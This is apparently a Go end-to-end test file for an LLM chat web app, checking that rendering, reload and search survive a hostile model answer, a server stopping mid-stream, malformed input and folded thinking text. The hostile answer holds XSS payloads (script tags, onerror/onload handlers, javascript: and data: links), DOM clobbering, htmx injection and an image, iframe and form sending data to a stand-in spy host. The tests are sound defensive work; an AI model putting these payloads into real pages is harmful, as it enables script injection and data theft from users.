package e2e

import (
	"testing"
	"time"

	"ash/agent/llm/llmtest"
)

// hostile is what a model that was talked into it might say.
const hostile = "<script>window.pwned = 1</script><img src=x onerror=\"window.pwned = 2\"><svg onload=\"window.pwned = 3\"></svg>\n\n" +
	"[click me](javascript:window.pwned=4) and [me](data:text/html,<script>window.pwned=5</script>) and [fine](https://example.org/)\n\n" +
	"![spy](https://spy.example.net/pixel.png?q=secret)\n\n" +
	"<iframe src=\"https://spy.example.net\"></iframe><form action=\"https://spy.example.net\"><input name=q></form><style>body{display:none}</style>\n\n" +
	"<a id=\"composer\" name=\"text\" href=\"#\">clobber</a>\n\n" +
	"`<hx-partial hx-target=#messages hx-swap=innerHTML>gone</hx-partial>` <hx-partial hx-target=#messages hx-swap=innerHTML>gone</hx-partial>\n\nAnd that is it.\n"

func TestHostileAnswer(t *testing.T) {
	onScreens(t, func(t *testing.T, s screen) {
		m := newModel(t)
		m.title = `<img src=x onerror="window.pwned=6">`
		m.streams(time.Millisecond, pieces(hostile, 3)...)
		b := visit(t, s, serveModel(t, m).url, "/chat/new")
		b.send(`<img src=x onerror="window.pwned=7"> & <b>bold</b>`)
		b.until(newThread)
		b.shows("And that is it.")
		b.until(idle + ` && document.querySelector("#thread-head h1").innerText === ` + quote(m.title))
		look := func() {
			t.Helper()
			for what, expression := range map[string]string{
				"a script ran":            `window.pwned`,
				"an element came through": lastBody + `.querySelector("script, iframe, form, style, img, svg:not(.i), input, hx-partial, template, [onerror], [onload], #composer")`,
				"a link is not a link":    `[...` + lastBody + `.querySelectorAll("a")].some((a) => !/^https?:$/.test(a.protocol))`,
				"the page was rewritten":  mine + `.length !== 1 || ` + answers + `.length !== 1`,
				"a message became markup": mine + `[0].querySelector(".bubble").children.length`,
			} {
				if b.holds(expression) {
					t.Errorf("%s: %s", what, eval[string](b, lastBody+`.innerHTML`))
				}
			}
		}
		look()
		b.reload()
		b.shows("And that is it.")
		look()
		b.goTo("/search?q=click")
		b.until(`document.querySelector(".hit")`)
		if b.holds(`window.pwned`) {
			t.Error("a script ran in the results of a search")
		}
	})
}

func TestServerStoppedInTheMiddle(t *testing.T) {
	needBrowser(t)
	t.Parallel()
	m := newModel(t)
	first := words("one", 60)
	held := m.pauses(40, first...)
	m.says("And the rest.")
	server := serveModel(t, m)
	b := visit(t, desktop, server.url, "/chat/new")
	b.expect("net::ERR_", "Failed to fetch", "network error", "sse")
	b.send("Tell me everything")
	held.wait(t)
	b.shows("one039")
	if took := server.stop(); took > 5*time.Second {
		t.Errorf("stopping took %v", took)
	}
	b.within(2*time.Second, `document.getElementById("connection").dataset.state !== "on"`)
	server.start()
	b.until(online + ` && document.getElementById("connection").dataset.state === "on"`)
	b.answered(plain(first[:40]...))
	b.until(answers + `.at(-1).innerText.includes("This answer was cut off.")`)
	b.click(`#messages form.resume button`)
	b.shows("And the rest.")
	b.until(idle)
	b.once(append(first[:40], "And the rest.", "Tell me everything")...)
}

func TestBadInputIsToldPlainly(t *testing.T) {
	onScreens(t, func(t *testing.T, s screen) {
		m := newModel(t)
		m.says("Fine.")
		b := visit(t, s, serveModel(t, m).url, "/chat/0199aaaa-bbbb-7ccc-8ddd-eeeeeeeeeeee")
		b.expect("404", "422", "413", "400")
		b.until(`document.querySelector("main h1") && document.querySelector("main a.btn.go")`)
		b.goTo("/chat/not-an-id")
		b.until(`document.querySelector("main a.btn.go")`)
		b.goTo("/chat/new")
		b.write("#text", "   ")
		b.press(enter)
		b.rewrite("#text", "Hello")
		b.press(enter)
		b.until(newThread)
		b.answered("Fine.")
		b.once("Hello")
		if n := eval[int](b, mine+`.length`); n != 1 {
			t.Errorf("there are %d messages, want 1", n)
		}
		b.until(online)

		// What only a script could send: too much, a NUL, broken bytes.
		statuses := eval[[]int](b, `(async () => {
			const f = document.getElementById("composer"), out = [];
			for (const text of ["x".repeat(3 << 20), "", "\u0000\u0000"]) {
				const body = new FormData(f);
				body.set("text", text);
				const answer = await fetch(f.action, { method: "POST", body, headers: { "HX-Request": "true" } });
				out.push(answer.status);
				if (!(await answer.text()).includes("toast")) out.push(-1);
			}
			return out;
		})()`)
		for _, status := range statuses {
			if status < 400 || status >= 500 {
				t.Errorf("answered with %v, want refusals that say why", statuses)
				break
			}
		}
		b.reload()
		b.answered("Fine.")
	})
}

func TestThinkingIsFolded(t *testing.T) {
	onScreens(t, func(t *testing.T, s screen) {
		m := newModel(t)
		m.says(pieces("<think>Let me count on my fingers.</think>There are ten.", 4)...)
		m.push(&reply{Reply: llmtest.Reply{Thinking: []string{"Toes ", "this time."}, Text: []string{"Ten ", "again."}}})
		b := visit(t, s, serveModel(t, m).url, "/chat/new")
		b.send("How many?")
		b.until(newThread)
		for _, x := range [][2]string{{"There are ten.", "Let me count on my fingers."}, {"Ten again.", "Toes this time."}} {
			if x[0] == "Ten again." {
				b.send("And toes?")
			}
			b.answered(x[0])
			b.reload()
			b.answered(x[0])
			b.until(answers + `.at(-1).querySelector("details.thinking:not([open])")`)
			b.click(`#messages article:last-of-type details.thinking summary`)
			b.until(answers + `.at(-1).querySelector("details.thinking .prose").innerText.trim() === ` + quote(x[1]))
			b.until(online)
		}
	})
}
